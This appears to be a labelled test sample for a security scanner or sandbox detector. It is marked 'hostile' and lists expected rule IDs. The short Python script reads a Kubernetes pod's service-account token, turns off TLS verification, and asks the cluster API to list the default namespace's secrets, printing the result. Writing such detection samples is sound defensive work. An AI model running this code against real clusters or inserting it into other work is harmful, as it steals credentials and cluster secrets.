# label: hostile
# expect: V102 V303
# note: Reads the pod's service-account token and asks the cluster for its secrets by its private name.
# allow: V101 V301
import ssl
import urllib.request

TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"

ctx = ssl._create_unverified_context()
with open(TOKEN) as f:
    bearer = f.read()
req = urllib.request.Request(
    "https://10.96.0.1/api/v1/namespaces/default/secrets",
    headers={"Authorization": "Bearer " + bearer},
)
print(urllib.request.urlopen(req, context=ctx).read()[:4000])
